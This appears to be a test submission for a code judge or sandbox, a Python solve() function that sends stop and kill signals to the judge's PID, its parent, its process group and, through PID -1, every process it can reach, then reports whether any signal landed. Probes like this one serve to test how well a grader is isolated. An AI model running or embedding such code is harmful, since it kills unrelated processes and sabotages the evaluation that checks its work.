"""Sends signals to the judge, its parent, its group and everyone."""

import os
import signal


def solve(x):
    hit = 0
    for pid in (int("@PID@"), os.getppid(), os.getppid() + 1, -int("@PID@"), -1):
        for number in (0, signal.SIGCONT, signal.SIGSTOP, signal.SIGKILL):
            try:
                if pid not in (0, os.getpid()):
                    os.kill(pid, number)
                    hit += pid > 0
            except OSError:
                continue
    return x * x + 1 if hit else None
